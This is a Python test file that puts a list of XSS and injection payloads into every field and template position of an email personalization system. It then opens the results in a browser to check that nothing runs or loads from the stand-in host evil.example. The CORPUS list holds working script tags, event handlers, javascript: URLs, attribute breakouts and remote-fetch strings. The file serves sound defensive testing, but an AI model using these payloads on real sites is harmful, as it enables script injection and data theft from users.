"""Hostile values in every place of every mail, opened in Chromium: nothing runs, is fetched, or becomes markup.

CI takes a sample; `HOSTILE=all` takes every value in every place.
"""

import json
import os
import random
import re
from collections.abc import Iterator
from copy import deepcopy
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import polars as pl
import pytest

from tasks.content.personalization import PersonalizationOptions, Templates, Utm, personalize, read_templates
from tasks.send import Send
from tests.browser import browser_page
from tests.tasks.content.every_mail import EVERY, OF_TESTS, Profile, mail

pytestmark = pytest.mark.slow

SEND = Send(campaign="spring", label="Spring", business_date="2026-03-20")
SAMPLE = 40
"""Messages of a mail that CI opens."""
TOGETHER = 40
"""Messages that are open at one time."""

READER = "https://reader.example/"
"""Where the mails are opened, so that addresses without a scheme lead somewhere."""

CORPUS = [
    # Elements that run something
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![endif]--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    # Out of an attribute
    '" onerror="alert(1)',
    "' onerror='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    " onerror=alert(1) ",
    "x\tonerror=alert(1)",
    "x/onerror=alert(1)/",
    "` onerror=alert(1)",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    "x><svg onload=alert(1)>",
    '\\"><svg onload=alert(1)>',
    "&quot; onerror=&quot;alert(1)",
    # Addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload='alert(1)'/>",
    "//evil.example/a.png",
    "\\\\evil.example\\a.png",
    "/\\evil.example/a.png",
    "@evil.example/",
    ".evil.example/",
    "https:/\\x.example@evil.example/",
    "blob:https://x.example/1",
    "view-source:javascript:alert(1)",
    # Styles and fetches without a script
    "red;background:url(//evil.example/a)",
    "url(//evil.example/a)",
    "expression(alert(1))",
    "red}*{background:url(//evil.example/a)}",
    "@import '//evil.example/a.css';",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<img src=//evil.example/a.png>",
    "<object data=//evil.example/a></object>",
    "<form action=//evil.example/><button>",
    "x 1x, //evil.example/a.png 2x",
    # Entities, encodings and half of something
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<a",
    "<!--",
    "<b title='",
    "\u202e<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
]

PLACES = {
    "text": "<p>{{ v }}</p>",
    "quoted": '<p title="{{ v }}">x</p>',
    "single": "<p title='{{ v }}'>x</p>",
    "unquoted": "<p title={{ v }}>x</p>",
    "link": '<a href="{{ v }}">x</a>',
    "path": '<a href="https://x.example/{{ v }}">x</a><img src="https://x.example/{{ v }}" alt="">',
    "host": '<img src="https://x.example{{ v }}" alt="">',
    "image": '<img src="{{ v }}" alt="{{ v }}">',
    "set": '<img srcset="{{ v }} 1x" alt="">',
    "style": '<p style="color:{{ v }}">x</p>',
    "background": '<p style="background:url({{ v }})">x</p>',
    "title": "<title>{{ v }}</title><p>x</p>",
    "comment": "<!-- {{ v }} --><p>x</p>",
    "outlook": '<!--[if mso]><v:rect href="{{ v }}">{{ v }}<![endif]--><p>x</p>',
    "revealed": '<!--[if !mso]><!--><a href="{{ v }}">{{ v }}</a><!--<![endif]-->',
    "drawing": '<svg><a xlink:href="{{ v }}"><text>{{ v }}</text></a></svg>',
    "refresh": '<meta http-equiv="refresh" content="99999;url={{ v }}"><p>x</p>',
    "data": '<script type="application/ld+json">{"a":{{ v|tojson }}}</script><p>x</p>',
    "include": "{% set w = v %}{% include 'part.txt' %}",
}

STYLES = "<style>p{color:green} a{margin:0} img{border:0} p b{top:0} [title]{left:0} a:hover{margin:1px}</style>"

SPIED = "for (const name of ['alert', 'msgbox']) window[name] = () => { top.ran = (top.ran || 0) + 1 }"
SHAPE = """
const scheme = /^[\\0-\\x20]*(j\\s*a\\s*v\\s*a|v\\s*b)\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t\\s*:|^[\\0-\\x20]*data:/i
const shape = (mail) => [...(mail?.querySelectorAll('*') || [])].map(
  each => [each.localName, ...[...each.attributes].map(
    one => one.name + (scheme.test(one.value) && !['title', 'alt'].includes(one.name) ? '!' : '')
  ).sort()].join(' '))
"""
OPENED = f"""(mails) => {{ {SHAPE}
while (document.body.children.length < mails.length) document.body.append(document.createElement('iframe'))
return Promise.all(mails.map((html, place) => new Promise(done => {{
  const frame = document.body.children[place]
  frame.onload = () => setTimeout(() => done(shape(frame.contentDocument)), 30)
  frame.contentDocument.open()
  frame.contentDocument.write(html)
  frame.contentDocument.close()
}})))}}"""
"""Frames stay for the next mails: to make one costs the browser five times what a mail does."""
READ = f"""(mails) => {{ {SHAPE}
return mails.map(html => shape(new DOMParser().parseFromString(html, 'text/html')))}}"""


class Opened:
    """A browser that opens mails, and what came of it."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.fetched: list[str] = []
        page.add_init_script(SPIED)
        page.route("**/*", self._refuse)
        page.goto(READER)

    def _refuse(self, route: Any) -> None:
        if route.request.url == READER:
            route.fulfill(content_type="text/html", body="<body></body>")
            return
        self.fetched.append(route.request.url)
        route.abort()

    @property
    def ran(self) -> int:
        return int(self.page.evaluate("top.ran || 0"))

    def shapes(self, mails: list[str]) -> list[list[str]]:
        """Elements of each mail with the names of their attributes; "!" after one whose address runs something."""
        found: list[list[str]] = []
        for start in range(0, len(mails), TOGETHER):
            found += self.page.evaluate(OPENED, mails[start : start + TOGETHER])
        return found

    def harmless_shapes(self, mails: list[str]) -> list[list[str]]:
        """The same of mails that have no hostile value: they are read, and not opened, which takes far longer."""
        found: list[list[str]] = self.page.evaluate(READ, mails)
        return found

    def foreign(self) -> list[str]:
        return [url for url in self.fetched if str(urlsplit(url).hostname).endswith("evil.example")]


@pytest.fixture(scope="module")
def opened() -> Iterator[Opened]:
    with browser_page() as page:
        yield Opened(page)


@pytest.fixture(autouse=True)
def forgotten(opened: Opened) -> None:
    opened.fetched.clear()
    opened.page.evaluate("top.ran = 0")


def leaves(value: object, path: tuple[object, ...] = ()) -> Iterator[tuple[object, ...]]:
    """Where the texts of a profile are."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict | list):
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from leaves(inner, (*path, key))


def changed(profile: Profile, path: tuple[Any, ...], value: str) -> Profile:
    made = deepcopy(profile)
    *before, last = path
    space: Any = made
    for key in before:
        space = space[key]
    space[last] = value
    return made


def twin(value: str) -> str:
    """A harmless value of the same length: the same branches of a template are taken."""
    return re.sub(r"[^a-z0-9]", "x", value)


def some(cases: list[Any]) -> list[Any]:
    whole = os.environ.get("HOSTILE") == "all" or len(cases) <= SAMPLE
    return cases if whole else random.Random(7).sample(cases, SAMPLE)


def mails_of(templates: Templates, profiles: list[Profile], *, rewritten: bool = False) -> list[str | None]:
    """The HTML of each profile, or nothing where it is rejected.

    Templates are `rewritten` by inlining their styles and adding parameters to their links.
    """
    numbered = [{**each, "number": str(row)} for row, each in enumerate(profiles)]
    options = PersonalizationOptions(
        templates=templates,
        send=SEND,
        key="number",
        inline_css=rewritten,
        utm=Utm(source="news") if rewritten else None,
    )
    made = personalize(pl.DataFrame(numbered), options).standard
    found = dict(made.select("profile_id", "html").iter_rows())
    return [found.get(str(row)) for row in range(len(profiles))]


def assert_harmless(opened: Opened, templates: Templates, profile: Profile, cases: list[Any]) -> list[int]:
    """Of each (path, value): nothing runs or is fetched, and the elements are those of a harmless value.

    So it is as templates are, and rewritten: how many mails of each were opened.
    """
    hostile = [changed(profile, path, value) for path, value in cases]
    twins = [changed(profile, path, twin(value)) for path, value in cases]
    counts = []
    for rewritten in (False, True):
        first, *mails = mails_of(templates, [profile, *hostile, *twins], rewritten=rewritten)
        pairs = zip(cases, mails[: len(cases)], mails[len(cases) :], strict=True)
        sent = [(case, html, other or "") for case, html, other in pairs if html]
        shapes = opened.shapes([html for _, html, _ in sent])
        plain, *expected = opened.harmless_shapes([first or "", *(other for *_, other in sent)])
        assert plain
        for (case, *_), shape, harmless in zip(sent, shapes, expected, strict=True):
            assert shape in (harmless, plain), (json.dumps(case), f"{rewritten=}")
        assert opened.ran == 0, f"{rewritten=}"
        assert opened.foreign() == [], f"{rewritten=}"
        counts.append(len(sent))
    return counts


@pytest.mark.parametrize("name", EVERY)
def test_a_hostile_value_is_only_text_in_every_place_of_a_mail(opened: Opened, name: str) -> None:
    folder, profile = mail(name)
    templates = read_templates(folder)
    paths = [path for path in leaves(profile) if path != ("profile_id",)]
    plain, *others = mails_of(templates, [profile, *(changed(profile, path, "abc") for path in paths)])
    shown = [path for path, other in zip(paths, others, strict=True) if other != plain]
    cases = some([(path, value) for path in shown for value in CORPUS])
    assert min(assert_harmless(opened, templates, profile, cases)) > len(cases) // 3


@pytest.mark.parametrize("place", PLACES)
def test_a_hostile_value_is_only_text_in_every_place_of_html(opened: Opened, place: str) -> None:
    sources = {"s": "s", "html": STYLES + PLACES[place], "part.txt": "<b title='{{ w }}'>{{ w }}</b>"}
    parts = {"subject": "s", "html": "html", "text": "s"}
    templates = Templates(folder=Path(), parts=parts, sources=sources)
    profile = {"email": OF_TESTS["email"], "v": "/red" if place == "host" else "red"}
    if place in {"link", "image", "set", "background", "outlook", "revealed", "drawing", "refresh"}:
        profile["v"] = "https://x.example/a"
    cases = some([(("v",), value) for value in CORPUS])
    assert_harmless(opened, templates, profile, cases)


@pytest.fixture
def own_frames(opened: Opened) -> Iterator[None]:
    """Frames of this test alone: what is hostile leads them away, and what was fetched is not fetched again."""
    opened.page.reload()
    yield
    opened.page.reload()


def test_the_values_are_hostile_where_nothing_is_escaped(opened: Opened, own_frames: None) -> None:
    shapes = opened.shapes([PLACES["text"].replace("{{ v }}", value) for value in CORPUS])
    assert opened.ran > 15
    assert len(set(opened.foreign())) >= 4
    assert sum(len(shape) != 4 for shape in shapes) > 30
    [scripted] = opened.shapes([PLACES["link"].replace("{{ v }}", "java\tscript:alert(1)")])
    assert scripted[-1] == "a href!"
